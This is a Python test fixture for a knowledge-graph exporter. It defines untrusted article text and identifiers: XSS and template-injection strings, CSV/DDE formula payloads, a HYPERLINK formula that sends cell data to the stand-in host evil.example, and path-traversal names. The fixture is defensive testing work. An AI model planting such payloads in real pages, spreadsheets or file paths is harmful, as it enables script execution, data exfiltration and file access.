"""Hostile text and names for the export, IRI, CSV and browser tests (issue 9).

Article text is untrusted: it may carry markup, script, template syntax, spreadsheet
formulas and characters that break naive IRIs or file names. Everything here is our own
made-up text.
"""

from __future__ import annotations

from kg.records import ActorRef, Claim

#: Strings that must come out of every export exactly as they went in, and never run.
PAYLOADS = [
    "<script>window.__pwned = 1</script>",
    "</script><script>window.__pwned = 2</script>",
    '<img src=x onerror="window.__pwned = 3">',
    '<a href="javascript:window.__pwned = 4">click</a>',
    "javascript:window.__pwned = 5",
    "{{constructor.constructor('window.__pwned = 6')()}}",
    "${window.__pwned = 7}",
    "=HYPERLINK(\"https://evil.example/?\"&A1, \"x\")",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\u2028\u2029 line separators \" ' \\ & ; # %",
    "<!-- comment --> ]]> <![CDATA[ x ]]>",
]

#: Ids hostile to IRIs and to file names.
HOSTILE_IDS = [
    "a b", "<>\"{}|\\^`", "../../etc/passwd", "..", "x/y?z#w", "100%", "%2F", "zażółć-gęślą", "中文 ид",
    "=1+1", "-", "'", "\t", "😀", "CON", "a\u202eb",
]


def hostile_claims() -> list[Claim]:
    """Claims whose actors (unknown to any gazetteer), docs and evidence are all hostile."""
    out = []
    for i, payload in enumerate(PAYLOADS):
        subj_id = HOSTILE_IDS[i % len(HOSTILE_IDS)]
        obj_id = HOSTILE_IDS[(i + 1) % len(HOSTILE_IDS)] + f" {i}"
        subj = ActorRef(subj_id, f"Actor {payload}", "State", f"S{i}<>", wikidata="Q1> <x")
        obj = ActorRef(obj_id, f"{payload} Object", "ArmedGroup", f"=O{i}")
        doc = HOSTILE_IDS[(i + 2) % len(HOSTILE_IDS)] + f".{i}"
        sentence = f"Sentence {i}: {payload} supports {payload}."
        out.append(Claim(
            doc=doc, relation="supports", subject=subj, object=obj, sentence=sentence, start=0,
            end=len(sentence), lang="en", rule=f"en:{payload}", trigger=payload, negated=i % 4 == 3,
            hedged=i % 2 == 0, modality="denied" if i % 4 == 3 else "asserted", attributed_to=payload,
            confidence=0.5, title=f"Title {payload}", url=payload if i % 2 else f"https://example.org/{payload}",
            published="2025-01-02", source=f"Source {payload}",
        ))
    return out
